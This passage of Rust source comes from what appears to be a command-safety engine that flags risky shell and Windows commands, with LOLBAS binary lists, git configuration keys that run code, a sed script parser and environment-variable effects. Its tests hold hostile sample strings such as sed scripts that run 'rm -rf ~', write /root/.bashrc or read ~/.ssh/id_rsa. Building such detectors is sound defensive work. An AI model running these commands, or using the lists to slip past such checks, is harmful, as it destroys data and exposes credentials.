            "printbrm",
            "finger",
            "at",
            "rundll32",
            "pester",
            "wsreset",
            "hh",
        ],
        any: true,
        ..WNONE
    },
    WinProgram {
        names: &[
            "excel",
            "winword",
            "powerpnt",
            "mspub",
            "msaccess",
            "visio",
            "winproj",
            "msohtmed",
            "protocolhandler",
            "xsd",
            "dotnet",
            "vstest.console",
            "findstr",
            "print",
            "makecab",
            "diantz",
            "type",
            "expand",
            "extrac32",
            "replace",
            "esentutl",
        ],
        remote: true,
        ..WNONE
    },
    WinProgram {
        names: &["msbuild"],
        remote: true,
        // a project that is not a project file (an inline task in `x.xml`)
        when: &["*.xml", "*.txt", "*.dat", "*.log"],
        ..WNONE
    },
    WinProgram {
        names: &["msedge", "chrome", "teams", "code"],
        remote: true,
        when: &[
            "gpu-launcher*",
            "renderer-cmd-prefix*",
            "utility-cmd-prefix*",
            "browser-subprocess-path*",
            "dump-dom",
        ],
        ..WNONE
    },
    WinProgram {
        names: &["start"],
        when: &["ms-appinstaller:*", "search-ms:*", "ms-msdt:*"],
        ..WNONE
    },
    WinProgram {
        names: &["control"],
        when: &["*.dll"],
        ..WNONE
    },
    WinProgram {
        names: &["conhost"],
        when: &["headless", "*.exe"],
        ..WNONE
    },
    WinProgram {
        names: &["explorer"],
        when: &["root,*"],
        ..WNONE
    },
    WinProgram {
        names: &["mmc"],
        when: &["embedding"],
        ..WNONE
    },
    WinProgram {
        names: &["pnputil"],
        when: &["i", "a", "add-driver", "install"],
        ..WNONE
    },
    WinProgram {
        names: &["vshadow"],
        when: &["exec=*", "exec"],
        ..WNONE
    },
    WinProgram {
        names: &["mpcmdrun"],
        when: &["downloadfile"],
        ..WNONE
    },
    WinProgram {
        names: &["certreq"],
        when: &["post", "config"],
        ..WNONE
    },
    WinProgram {
        names: &["bash", "wsl"],
        when: &["c", "e", "exec", "u", "user"],
        ..WNONE
    },
    WinProgram {
        names: &["ftp"],
        when: &["s:*"],
        ..WNONE
    },
    WinProgram {
        names: &["netsh"],
        when: &["helper"],
        ..WNONE
    },
    WinProgram {
        names: &["dnscmd"],
        when: &["serverlevelplugindll"],
        ..WNONE
    },
    WinProgram {
        names: &["wmic"],
        when: &["format:*", "format"],
        ..WNONE
    },
    WinProgram {
        names: &["winget"],
        when: &["manifest", "m"],
        ..WNONE
    },
    WinProgram {
        names: &["ssh", "sftp", "scp"],
        when: &["proxycommand=*", "localcommand=*", "permitlocalcommand=*"],
        ..WNONE
    },
    WinProgram {
        names: &["squirrel", "update"],
        when: &[
            "download",
            "update",
            "updaterollback",
            "processstart",
            "processstartandwait",
            "createshortcut",
        ],
        ..WNONE
    },
    WinProgram {
        names: &["winrm"],
        when: &["invoke"],
        ..WNONE
    },
    WinProgram {
        names: &["devtunnel"],
        when: &["host"],
        ..WNONE
    },
    WinProgram {
        names: &["procdump"],
        when: &["md"],
        ..WNONE
    },
    WinProgram {
        names: &["schtasks", "sc"],
        when: &["create", "change", "config"],
        rule: "service-persistence",
        ..WNONE
    },
    WinProgram {
        names: &["invoke-webrequest", "invoke-restmethod", "iwr", "irm"],
        when: &["infile"],
        rule: "exfiltration",
        ..WNONE
    },
    WinProgram {
        names: &[
            "cl_invocation.ps1",
            "cl_mutexverifiers.ps1",
            "cl_loadassembly.ps1",
            "utilityfunctions.ps1",
            "launch-vsdevshell.ps1",
            "pubprn.vbs",
            "manage-bde.wsf",
            "syncappvpublishingserver.vbs",
            "winrm.vbs",
        ],
        script: true,
        ..WNONE
    },
];

/// Whether a Windows statement (`name`, its arguments, its text) uses a
/// LOLBAS binary, library or script to run or move code: the rule key and
/// what it does.
pub fn win_lolbas(name: &str, args: &[String], text: &str) -> Option<(&'static str, String)> {
    static NAMES: Lazy<HashSet<&'static str>> = Lazy::new(|| {
        WINDOWS
            .iter()
            .filter(|p| !p.script)
            .flat_map(|p| p.names.iter().copied())
            .collect()
    });
    // most commands name none of these: decide without allocating
    let script_like = |w: &str| {
        let l = w.len();
        l > 4
            && w.get(l - 4..).is_some_and(|e| {
                [".ps1", ".vbs", ".wsf"]
                    .iter()
                    .any(|x| e.eq_ignore_ascii_case(x))
            })
    };
    if !NAMES.contains(name)
        && !NAMES.contains(name.to_ascii_lowercase().as_str())
        && !script_like(name)
        && !args
            .iter()
            .any(|a| script_like(a.trim_matches(|c| c == '"' || c == '\'')))
    {
        return None;
    }
    let name = name.to_ascii_lowercase();
    let lc: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let base = |w: &str| {
        w.rsplit(['/', '\\'])
            .next()
            .unwrap_or(w)
            .trim_matches(|c| c == '"' || c == '\'')
            .to_string()
    };
    for p in WINDOWS {
        if p.script {
            if let Some(s) = std::iter::once(&name)
                .chain(lc.iter())
                .map(|w| base(w))
                .find(|w| p.names.contains(&w.as_str()))
            {
                return Some((p.rule, format!("runs the Windows script {s} (LOLBAS)")));
            }
            continue;
        }
        if !p.names.contains(&name.as_str()) {
            continue;
        }
        if p.any {
            return Some((
                p.rule,
                format!("{name} loads and runs code it is given (LOLBAS)"),
            ));
        }
        let hit = lc.iter().find(|a| {
            let w = a.trim_start_matches(['/', '-']);
            p.when.iter().any(|t| {
                if let Some(suf) = t.strip_prefix('*') {
                    a.trim_end_matches(['"', '\'']).ends_with(suf)
                } else if let Some(pre) = t.strip_suffix('*') {
                    w.starts_with(pre)
                } else {
                    w == *t
                        || w.strip_prefix(t)
                            .is_some_and(|r| r.starts_with([':', '=', ',']))
                }
            })
        });
        if let Some(h) = hit {
            return Some((p.rule, format!("{name} {h}: runs or moves code (LOLBAS)")));
        }
        let lt = text.to_ascii_lowercase();
        if p.remote
            && (lt.contains("http://")
                || lt.contains("https://")
                || lt.contains("ftp://")
                || lt.contains("\\\\"))
        {
            return Some((
                p.rule,
                format!("{name} reads or writes a remote file (LOLBAS)"),
            ));
        }
    }
    None
}

/// The entry of a program (by basename).
pub fn program(name: &str) -> Option<&'static Program> {
    static INDEX: Lazy<std::collections::HashMap<&'static str, usize>> = Lazy::new(|| {
        let mut m = std::collections::HashMap::new();
        for (i, p) in PROGRAMS.iter().enumerate() {
            for n in p.names {
                m.insert(*n, i);
            }
        }
        m
    });
    INDEX.get(name).map(|&i| &PROGRAMS[i])
}

/// Programs whose arguments are data (text, patterns, file names, messages,
/// package or resource names): never presumed to be commands. Programs with
/// wrapper handling, shells and interpreters are known too (see
/// [`is_known`]).
pub static INERT: &[&str] = &[
    // the script a shell reads is judged by its content (judge_scripts)
    "source",
    ".",
    // linters, counters and viewers: they read the files they are given
    "shellcheck",
    "hadolint",
    "yamllint",
    "markdownlint",
    "codespell",
    "cspell",
    "actionlint",
    "tokei",
    "cloc",
    "scc",
    "bat",
    // text and files
    "echo",
    "printf",
    "cat",
    "tac",
    "ls",
    "ll",
    "dir",
    "head",
    "tail",
    "less",
    "more",
    "most",
    "wc",
    "sort",
    "uniq",
    "cut",
    "tr",
    "paste",
    "join",
    "column",
    "fold",
    "fmt",
    "nl",
    "rev",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "ack",
    "ugrep",
    "sed",
    "gsed",
    "awk",
    "jq",
    "yq",
    "diff",
    "cmp",
    "comm",
    "patch",
    "cp",
    "mv",
    "rm",
    "rmdir",
    "mkdir",
    "touch",
    "ln",
    "chmod",
    "chown",
    "chgrp",
    "stat",
    "file",
    "du",
    "df",
    "tree",
    "realpath",
    "readlink",
    "basename",
    "dirname",
    "pwd",
    "cd",
    "pushd",
    "popd",
    "which",
    "whereis",
    "type",
    "hash",
    "test",
    "[",
    "[[",
    "true",
    "false",
    ":",
    "export",
    "unset",
    "local",
    "declare",
    "typeset",
    "readonly",
    "set",
    "shopt",
    "read",
    "wait",
    "sleep",
    "date",
    "cal",
    "uname",
    "hostname",
    "whoami",
    "id",
    "groups",
    "nproc",
    "free",
    "uptime",
    "top",
    "htop",
    "ps",
    "pgrep",
    "kill",
    "pkill",
    "killall",
    "lsof",
    "ss",
    "netstat",
    "ip",
    "ifconfig",
    "ping",
    "dig",
    "nslookup",
    "host",
    "tee",
    "xxd",
    "od",
    "hexdump",
    "strings",
    "base64",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "shasum",
    "b2sum",
    "cksum",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "zcat",
    "bzip2",
    "bunzip2",
    "xz",
    "unxz",
    "zstd",
    "7z",
    "split",
    "csplit",
    "truncate",
    "mktemp",
    "install",
    "dd",
    "shred",
    "find",
    "fd",
    "locate",
    "seq",
    "yes",
    "expr",
    "bc",
    "dc",
    "factor",
    "shuf",
    "iconv",
    "dos2unix",
    "unix2dos",
    "envsubst",
    "tput",
    "clear",
    "reset",
    "stty",
    "tty",
    "history",
    "fc",
    "jobs",
    "fg",
    "bg",
    "disown",
    "umask",
    "ulimit",
    "getconf",
    "locale",
    "printenv",
    "man",
    "info",
    "help",
    "apropos",
    "whatis",
    "mount",
    "umount",
    "lsblk",
    "blkid",
    "fdisk",
    "sfdisk",
    "parted",
    "gdisk",
    "mkfs",
    "wipefs",
    "vim",
    "vi",
    "nvim",
    "nano",
    "code",
    "open",
    "xdg-open",
    "convert",
    "identify",
    "ffmpeg",
    "ffprobe",
    "pandoc",
    "sqlite3",
    "psql",
    "mysql",
    "mariadb",
    "mongo",
    "mongosh",
    "openssl",
    "ssh-keygen",
    "ssh-add",
    "ssh-keyscan",
    "gpg",
    "gpg2",
    "age",
    "base32",
    // network clients (their arguments are URLs and data)
    "curl",
    "wget",
    "http",
    "https",
    "xh",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ftp",
    "scp",
    "sftp",
    "rsync",
    "ssh",
    "mosh",
    // version control and build/package tools: arguments are names, paths
    // and messages; code-running options are in PROGRAMS
    "git",
    "hg",
    "svn",
    "gh",
    "glab",
    "rustc",
    "rustup",
    "rustfmt",
    "go",
    "gofmt",
    "npm",
    "pnpm",
    "yarn",
    "pip",
    "pip3",
    "pipx",
    "virtualenv",
    "tox",
    "nox",
    "pytest",
    "py.test",
    "mypy",
    "ruff",
    "black",
    "isort",
    "flake8",
    "pylint",
    "pyright",
    "tsc",
    "eslint",
    "prettier",
    "jest",
    "vitest",
    "mocha",
    "playwright",
    "webpack",
    "vite",
    "esbuild",
    "rollup",
    "turbo",
    "nx",
    "lerna",
    "make",
    "gmake",
    "cmake",
    "ctest",
    "ninja",
    "meson",
    "bazel",
    "buck",
    "mvn",
    "gradle",
    "gradlew",
    "ant",
    "sbt",
    "dotnet",
    "msbuild",
    "javac",
    "java",
    "kotlinc",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "ld",
    "ar",
    "nm",
    "objdump",
    "readelf",
    "strip",
    "clang-format",
    "clang-tidy",
    "swift",
    "swiftc",
    "xcodebuild",
    "flutter",
    "dart",
    "composer",
    "gem",
    "rake",
    "mix",
    "stack",
    "cabal",
    "ghc",
    "brew",
    "apt",
    "apt-get",
    "apt-cache",
    "dnf",
    "yum",
    "pacman",
    "apk",
    "dpkg",
    "rpm",
    "snap",
    "flatpak",
    "docker",
    "podman",
    "nerdctl",
    "kubectl",
    "oc",
    "helm",
    "kind",
    "minikube",
    "terraform",
    "tofu",
    "pulumi",
    "ansible",
    "ansible-playbook",
    "aws",
    "gcloud",
    "gsutil",
    "az",
    "doctl",
    "flyctl",
    "heroku",
    "vercel",
    "netlify",
    "wrangler",
    "firebase",
    "supabase",
    "systemctl",
    "journalctl",
    "service",
    "launchctl",
    "crontab",
    "at",
    "useradd",
    "userdel",
    "usermod",
    "groupadd",
    "passwd",
    "chpasswd",
    "iptables",
    "ufw",
    "firewall-cmd",
    "tmux",
    "screen",
    "ssh-agent-info",
];

/// Programs the engine knows (inert, with an entry, or with wrapper /
/// shell / interpreter handling): the others are presumed to execute their
/// arguments.
pub fn is_known(name: &str) -> bool {
    static SET: Lazy<HashSet<&'static str>> = Lazy::new(|| INERT.iter().copied().collect());
    SET.contains(name)
        || crate::names::is_shell(name)
        || crate::names::is_interpreter(name)
        || program(name).is_some()
}

/// Words that name a program when they start an argument list: used to find
/// where an unknown wrapper's inner command begins.
pub fn looks_like_program(word: &str) -> bool {
    if word.is_empty()
        || word.starts_with('-')
        || word.len() > 256
        || word.contains(char::is_whitespace)
    {
        return false;
    }
    let base = crate::names::cmd_name(word);
    if word.contains('/') {
        // an absolute path into a bin directory, or a relative ./script
        let in_bin = word.starts_with("/bin/")
            || word.starts_with("/usr/bin/")
            || word.starts_with("/usr/local/bin/")
            || word.starts_with("/sbin/")
            || word.starts_with("/usr/sbin/");
        return in_bin || crate::names::is_shell(&base) || crate::names::is_interpreter(&base);
    }
    static EXTRA: &[&str] = &[
        "rm",
        "dd",
        "mkfs",
        "shred",
        "kill",
        "chmod",
        "chown",
        "curl",
        "wget",
        "nc",
        "ncat",
        "socat",
        "bash",
        "sh",
        "eval",
        "exec",
        "env",
        "sudo",
        "su",
        "doas",
        "xargs",
        "find",
        "python",
        "python3",
        "perl",
        "ruby",
        "node",
        "crontab",
        "systemctl",
        "reboot",
        "shutdown",
        "mv",
        "cp",
        "tee",
        "truncate",
        "base64",
        "openssl",
        "ssh",
        "scp",
        "rsync",
        "git",
        "docker",
        "kubectl",
        "nohup",
        "setsid",
        "timeout",
        "nice",
        "iptables",
    ];
    EXTRA.contains(&base.as_str())
        || crate::names::is_shell(&base)
        || crate::names::is_interpreter(&base)
        || program(&base).is_some()
}

/// Git configuration keys whose value runs a program or changes where code
/// comes from (for `git -c`, `git config`, `GIT_CONFIG_*`). Returns how the
/// value runs, given the key (lowercase) and value.
pub fn git_code_key(key: &str, value: &str) -> Option<Run> {
    let k = key.to_ascii_lowercase();
    let last = k.rsplit('.').next().unwrap_or("");
    let first = k.split('.').next().unwrap_or("");
    let shell = matches!(
        k.as_str(),
        "core.pager"
            | "core.sshcommand"
            | "core.editor"
            | "core.fsmonitor"
            | "core.askpass"
            | "core.gitproxy"
            | "sequence.editor"
            | "diff.external"
            | "uploadpack.packobjectshook"
            | "sendemail.sendmailcmd"
            | "gpg.program"
            | "web.browser"
            | "merge.tool"
            | "diff.tool"
    ) || first == "pager"
        || (first == "alias" && value.trim_start().starts_with('!'))
        || (first == "credential" && last == "helper")
        || (first == "filter" && matches!(last, "clean" | "smudge" | "process"))
        || (first == "diff" && matches!(last, "textconv" | "command"))
        || (first == "merge" && last == "driver")
        || (first == "gpg" && last == "program")
        || (matches!(first, "difftool" | "mergetool") && last == "cmd")
        || (first == "remote" && matches!(last, "uploadpack" | "receivepack" | "proxy"))
        || (first == "browser" && last == "cmd")
        || (first == "man" && last == "cmd")
        || (first == "trailer" && matches!(last, "command" | "cmd"))
        || (first == "submodule" && last == "update" && value.trim_start().starts_with('!'))
        || matches!(
            k.as_str(),
            "gpg.ssh.defaultkeycommand"
                | "core.alternaterefscommand"
                | "sendemail.tocmd"
                | "sendemail.cccmd"
                | "sendemail.headercmd"
                | "sendemail.smtpserver"
                | "instaweb.httpd"
        );
    if shell {
        return Some(Shell);
    }
    let opaque = matches!(
        k.as_str(),
        "core.hookspath" | "include.path" | "init.templatedir"
    ) || (first == "includeif" && last == "path")
        || (first == "url" && matches!(last, "insteadof" | "pushinsteadof"))
        || (k == "protocol.ext.allow" && value != "never")
        || (k == "protocol.allow" && value == "always")
        // the program a tool runs (`mergetool.x.path`, `man.x.path`)
        || (matches!(first, "mergetool" | "difftool" | "man" | "browser") && last == "path")
        || k == "gpg.ssh.program";
    opaque.then_some(Opaque)
}

/// The shell command of an escape line in an interactive program's
/// command language: `!cmd` (pagers, ftp clients, debuggers, `ed`, `dc`,
/// vi's `:!cmd`), `\! cmd` (`mysql`, `psql`), `.shell cmd` / `.system
/// cmd` (`sqlite3`), `shell cmd` (`gdb`, `scanmem`, `jtag`), `@exec cmd`
/// (`bconsole`), `^K!cmd` (`joe`), `~!cmd` (`mail`).
pub fn escape_command(line: &str) -> Option<&str> {
    let t = line.trim_start();
    let t = t.strip_prefix(':').map_or(t, str::trim_start);
    // pic/groff: `sh X cmd X` (X any delimiter)
    if let Some(r) = t.strip_prefix("sh ")
        && let Some(d) = r.chars().next()
        && !d.is_whitespace()
        && r[d.len_utf8()..].starts_with(' ')
        && r.trim_end().ends_with(d)
        && r.trim_end().len() > 2 * d.len_utf8()
    {
        let body = &r.trim_end()[d.len_utf8()..r.trim_end().len() - d.len_utf8()];
        return Some(body.trim()).filter(|b| !b.is_empty());
    }
    let rest = ["\\!", "^K!", "~!", "!"]
        .iter()
        .find_map(|p| t.strip_prefix(p))
        .or_else(|| {
            [".shell ", ".system ", "shell ", "@exec "]
                .iter()
                .find_map(|p| t.strip_prefix(p))
        })?;
    let rest = rest.trim();
    // `!!` repeats the last command; `!=` is a comparison
    (!rest.is_empty() && !rest.starts_with(['!', '='])).then_some(rest)
}

/// One command of a sed script, parsed structurally (GNU grammar): its
/// command letter, its argument (`e COMMAND`, `w FILE`, `r FILE`, the
/// replacement of `s`) and, for `s`, its flags and the `w` file.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SedCmd {
    pub cmd: char,
    pub arg: String,
    pub flags: String,
    pub file: String,
}

/// The commands of a sed script, after any address form (`3`, `$`,
/// `/re/I`, `\,re,`, `first~step`, `0,/re/`, `addr,+N`, `addr,~N`, `!`),
/// inside `{..}` blocks, split on `;` and newlines. Parsing stops at the
/// first thing it does not understand; the caller sees `?` as the command
/// then (an unknown script).
pub fn sed_commands(script: &str) -> Vec<SedCmd> {
    let b: Vec<char> = script.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let n = b.len();
    let to_eol = |i: &mut usize| -> String {
        let mut s = String::new();
        while *i < n && b[*i] != '\n' {
            // `a\` / `e\` continuation lines
            if b[*i] == '\\' && *i + 1 < n && b[*i + 1] == '\n' {
                s.push('\n');
                *i += 2;
                continue;
            }
            s.push(b[*i]);
            *i += 1;
        }
        s
    };
    // a delimited regex starting after its opening delimiter `d`
    let delimited = |i: &mut usize, d: char| -> Option<String> {
        let mut s = String::new();
        while *i < n {
            let c = b[*i];
            if c == '\\' && *i + 1 < n {
                if b[*i + 1] == d {
                    s.push(d);
                } else if b[*i + 1] == 'n' {
                    s.push('\n');
                } else {
                    s.push('\\');
                    s.push(b[*i + 1]);
                }
                *i += 2;
                continue;
            }
            if c == d {
                *i += 1;
                return Some(s);
            }
            if c == '\n' && d != '\n' {
                return None;
            }
            s.push(c);
            *i += 1;
        }
        None
    };
    let address = |i: &mut usize| -> bool {
        if *i >= n {
            return true;
        }
        match b[*i] {
            '0'..='9' => {
                while *i < n && b[*i].is_ascii_digit() {
                    *i += 1;
                }
                if *i < n && b[*i] == '~' {
                    *i += 1;
                    while *i < n && b[*i].is_ascii_digit() {
                        *i += 1;
                    }
                }
            }
            '$' => *i += 1,
            '/' => {
                *i += 1;
                if delimited(i, '/').is_none() {
                    return false;
                }
                while *i < n && matches!(b[*i], 'I' | 'M') {
                    *i += 1;
                }
            }
            '\\' => {
                if *i + 1 >= n {
                    return false;
                }
                let d = b[*i + 1];
                *i += 2;
                if delimited(i, d).is_none() {
                    return false;
                }
                while *i < n && matches!(b[*i], 'I' | 'M') {
                    *i += 1;
                }
            }
            _ => {}
        }
        true
    };
    while i < n {
        let c = b[i];
        if c.is_whitespace() || c == ';' || c == '}' {
            i += 1;
            continue;
        }
        if c == '#' {
            to_eol(&mut i);
            continue;
        }
        let start = i;
        if !address(&mut i) {
            out.push(SedCmd {
                cmd: '?',
                ..SedCmd::default()
            });
            break;
        }
        if i > start && i < n && b[i] == ',' {
            i += 1;
            while i < n && b[i] == ' ' {
                i += 1;
            }
            if i < n && matches!(b[i], '+' | '~') {
                i += 1;
                while i < n && b[i].is_ascii_digit() {
                    i += 1;
                }
            } else if !address(&mut i) {
                out.push(SedCmd {
                    cmd: '?',
                    ..SedCmd::default()
                });
                break;
            }
        }
        while i < n && (b[i] == ' ' || b[i] == '\t' || b[i] == '!') {
            i += 1;
        }
        if i >= n {
            break;
        }
        let cmd = b[i];
        i += 1;
        let mut sc = SedCmd {
            cmd,
            ..SedCmd::default()
        };
        match cmd {
            '{' | '}' => continue,
            'a' | 'i' | 'c' | 'e' | 'r' | 'R' | 'w' | 'W' => {
                // GNU one-liner forms: `a text`, `a\` newline text
                if matches!(cmd, 'a' | 'i' | 'c') && i < n && b[i] == '\\' {
                    i += 1;
                    if i < n && b[i] == '\n' {
                        i += 1;
                    }
                }
                let t = to_eol(&mut i);
                sc.arg = t.trim_start().to_string();
            }
            ':' | 'b' | 't' | 'T' | 'v' | 'l' | 'L' | 'q' | 'Q' => {
                while i < n && b[i] != ';' && b[i] != '\n' && b[i] != '}' {
                    sc.arg.push(b[i]);
                    i += 1;
                }
                sc.arg = sc.arg.trim().to_string();
            }
            's' | 'y' => {
                if i >= n || b[i] == '\n' || b[i] == '\\' {
                    out.push(SedCmd {
                        cmd: '?',
                        ..SedCmd::default()
                    });
                    break;
                }
                let d = b[i];
                i += 1;
                let (Some(_re), Some(repl)) = (delimited(&mut i, d), delimited(&mut i, d)) else {
                    out.push(SedCmd {
                        cmd: '?',
                        ..SedCmd::default()
                    });
                    break;
                };
                sc.arg = repl;
                if cmd == 's' {
                    while i < n && !matches!(b[i], ';' | '\n' | '}') {
                        let f = b[i];
                        i += 1;
                        if f == 'w' || f == 'W' {
                            sc.flags.push('w');
                            sc.file = to_eol(&mut i).trim().to_string();
                            break;
                        }
                        if !f.is_whitespace() {
                            sc.flags.push(f);
                        }
                    }
                }
            }
            '=' | 'd' | 'D' | 'g' | 'G' | 'h' | 'H' | 'x' | 'n' | 'N' | 'p' | 'P' | 'z' | 'F' => {}
            _ => {
                sc.cmd = '?';
                out.push(sc);
                break;
            }
        }
        out.push(sc);
    }
    out
}

/// The scripts of a sed command line (`-e S`, `--expression=S`, or the
/// first operand when there is neither) and its script files (`-f FILE`,
/// `--file=FILE`).
pub fn sed_scripts(argv: &[String]) -> (Vec<String>, Vec<String>) {
    let (mut scripts, mut files) = (Vec::new(), Vec::new());
    let mut explicit = false;
    let mut i = 1;
    while i < argv.len() {
        let a = argv[i].as_str();
        if a == "--" {
            if !explicit && let Some(v) = argv.get(i + 1) {
                scripts.push(v.clone());
            }
            break;
        }
        if let Some(v) = a.strip_prefix("--expression=") {
            explicit = true;
            scripts.push(v.to_string());
        } else if let Some(v) = a.strip_prefix("--file=") {
            explicit = true;
            files.push(v.to_string());
        } else if matches!(a, "--expression" | "--file" | "--line-length") {
            if a != "--line-length" {
                explicit = true;
                if let Some(v) = argv.get(i + 1) {
                    if a == "--file" {
                        files.push(v.clone());
                    } else {
                        scripts.push(v.clone());
                    }
                }
            }
            i += 2;
            continue;
        } else if a.starts_with("--") {
        } else if a.starts_with('-') && a.len() > 1 {
            // a bundle: `-ne S`, `-nf FILE`, `-eS`, `-l 80`
            let flags = &a[1..];
            if let Some(p) = flags.find(['e', 'f', 'l']) {
                let rest = &flags[p + 1..];
                let val = if rest.is_empty() {
                    i += 1;
                    argv.get(i).cloned()
                } else {
                    Some(rest.to_string())
                };
                match (&flags[p..p + 1], val) {
                    ("e", Some(v)) => {
                        explicit = true;
                        scripts.push(v);
                    }
                    ("f", Some(v)) => {
                        explicit = true;
                        files.push(v);
                    }
                    _ => {}
                }
            }
        } else if !explicit {
            scripts.push(a.to_string());
            explicit = true;
        }
        i += 1;
    }
    (scripts, files)
}

/// Commands run by a sed script: the `e COMMAND` command and the `s///e`
/// flag (which runs the pattern space, i.e. the replacement or the input
/// line), after any address. Returns the visible command text when there
/// is one, `""` when the command comes from the input.
pub fn sed_exec(script: &str) -> Vec<String> {
    sed_commands(script)
        .into_iter()
        .filter_map(|c| match c.cmd {
            'e' => Some(c.arg),
            's' if c.flags.contains('e') => Some(c.arg),
            _ => None,
        })
        .collect()
}

/// Files a sed script writes: the `w FILE` / `W FILE` commands and the
/// `s///w FILE` flag.
pub fn sed_write_files(script: &str) -> Vec<String> {
    sed_commands(script)
        .into_iter()
        .filter_map(|c| match c.cmd {
            'w' | 'W' if !c.arg.is_empty() => Some(c.arg),
            's' if !c.file.is_empty() => Some(c.file),
            _ => None,
        })
        .collect()
}

/// Files a sed script reads besides its input: `r FILE` / `R FILE`.
pub fn sed_read_files(script: &str) -> Vec<String> {
    sed_commands(script)
        .into_iter()
        .filter_map(|c| matches!(c.cmd, 'r' | 'R').then_some(c.arg))
        .filter(|f| !f.is_empty())
        .collect()
}

/// Commands a make fragment runs: `$(shell ..)` calls and recipe lines
/// (`target: ; cmd` or tab-indented lines).
pub fn make_exec(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(p) = rest.find("$(shell") {
        let after = &rest[p + 7..];
        let mut depth = 1;
        let mut end = after.len();
        for (i, ch) in after.char_indices() {
            match ch {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = i;
                        break;
                    }
                }
                _ => {}
            }
        }
        out.push(after[..end].trim().to_string());
        rest = &after[end.min(after.len())..];
    }
    for line in text.lines() {
        if let Some(r) = line.strip_prefix('\t') {
            out.push(r.trim_start_matches(['@', '-', '+']).to_string());
        } else if let Some((head, recipe)) = line.split_once(';')
            && head.contains(':')
            && !head.contains('=')
        {
            out.push(recipe.trim().to_string());
        }
    }
    out
}

/// The value of `opt` at `argv[k]` (`-O VALUE`, `-OVALUE`, `--opt VALUE`,
/// `--opt=VALUE`; an `opt` ending in `=` or starting with `+` matches as a
/// prefix). Returns the value and whether it consumed the next word.
pub fn opt_value(argv: &[String], k: usize, opt: &str) -> Option<(String, bool)> {
    let a = argv.get(k)?;
    if opt.starts_with('+') || opt.ends_with("=-") || opt.ends_with('=') {
        if opt.ends_with("=-") {
            return (a == opt).then(|| ("-".to_string(), false));
        }
        return a.strip_prefix(opt).map(|v| (v.to_string(), false));
    }
    if a == opt {
        return argv.get(k + 1).map(|v| (v.clone(), true));
    }
    if opt.starts_with("--") || (opt.len() > 2 && opt.starts_with('-')) {
        return a
            .strip_prefix(opt)
            .and_then(|r| r.strip_prefix('='))
            .map(|v| (v.to_string(), false));
    }
    // short option glued to its value (`-O'cmd'`, `-Sprog`)
    a.strip_prefix(opt)
        .filter(|v| !v.is_empty() && !a.starts_with("--"))
        .map(|v| (v.to_string(), false))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every entry's examples hold against the whole engine (in the
    /// generalised deny-list posture), as execpolicy's match / not_match.
    #[test]
    fn examples_hold() {
        let e = crate::Engine::new().with_posture(
            crate::Posture::DenyList,
            Some("/work/project".into()),
            false,
        );
        let mut bad = Vec::new();
        for p in PROGRAMS {
            for (cmd, risky) in p.examples {
                let v = e.check(cmd).verdict;
                if (v != crate::Verdict::Allow) != *risky {
                    bad.push(format!("{}: {cmd} -> {v:?}", p.names[0]));
                }
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn sed_flags() {
        assert_eq!(sed_exec("s/.*/rm -rf ~/e"), vec!["rm -rf ~".to_string()]);
        assert_eq!(sed_exec("1e id"), vec!["id".to_string()]);
        assert!(sed_exec("s/execute/run/g").is_empty());
        assert!(sed_exec("s/a/b/w out.txt").is_empty());
        // any address form, blocks and ranges (red team, issue 37)
        for sc in [
            "/x/e rm -rf ~",
            "\\,x,e rm -rf ~",
            "0~1e rm -rf ~",
            "$ e rm -rf ~",
            "1,/y/ !e rm -rf ~",
            "/a/,+2{e rm -rf ~\n}",
            "/x/I,~4 s/.*/rm -rf ~/e",
            "/x/s/.*/rm -rf ~/e",
            "p;/x/e rm -rf ~",
        ] {
            assert_eq!(sed_exec(sc), vec!["rm -rf ~".to_string()], "{sc}");
        }
        assert_eq!(sed_write_files("/./w /root/.bashrc"), vec!["/root/.bashrc"]);
        assert_eq!(sed_write_files("0~3s/a/b/gw out"), vec!["out"]);
        assert!(sed_exec("s/e/E/g;/x/d").is_empty());
        assert!(sed_exec("s/\\/e/x/g").is_empty());
        assert_eq!(sed_read_files("/x/r ~/.ssh/id_rsa"), vec!["~/.ssh/id_rsa"]);
    }

    #[test]
    fn git_keys() {
        assert_eq!(git_code_key("credential.helper", "!x"), Some(Shell));
        assert_eq!(
            git_code_key("credential.https://h.helper", "x"),
            Some(Shell)
        );
        assert_eq!(git_code_key("alias.st", "status"), None);
        assert_eq!(git_code_key("user.name", "x"), None);
        assert_eq!(git_code_key("core.hooksPath", "/tmp"), Some(Opaque));
    }
}

/// What an environment variable does to the programs that read it (red
/// team 2, classes 5-7): the same effects as the options they stand for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EnvEffect {
    /// The value is a program the tool runs (`GIT_SSH`, `CC`,
    /// `CARGO_TARGET_<triple>_RUNNER`): a path that is not a system one, a
    /// shell or a command line asks.
    Program,
    /// The value is options of a tool (`GOFLAGS`, `RUSTFLAGS`,
    /// `TAR_OPTIONS`, `PYTEST_ADDOPTS`, `NODE_OPTIONS`): the listed option
    /// names run or load code and ask.
    Options(&'static [&'static str]),
    /// Directories libraries or modules are loaded from (`LD_LIBRARY_PATH`,
    /// `NODE_PATH`, `PERL5LIB`): a directory outside the system ones asks.
    LoadPath,
    /// Where the tool reads its configuration (`HOME`, `XDG_CONFIG_HOME`,
    /// `CURL_HOME`, `*RC`, `*_CONFIG*`, `*_HOME`): a workspace path (the
    /// config there may be written by anyone) asks.
    ConfigHome,
}

/// Environment variables by name (exact, or `PREFIX*SUFFIX`).
pub const ENV_EFFECTS: &[(&str, EnvEffect)] = {
    use EnvEffect::*;
    &[
        ("GIT_SSH", Program),
        ("GIT_EXTERNAL_DIFF", Program),
        ("GIT_PROXY_COMMAND", Program),
        ("CC", Program),
        ("CXX", Program),
        ("CPP", Program),
        ("LD", Program),
        ("AR", Program),
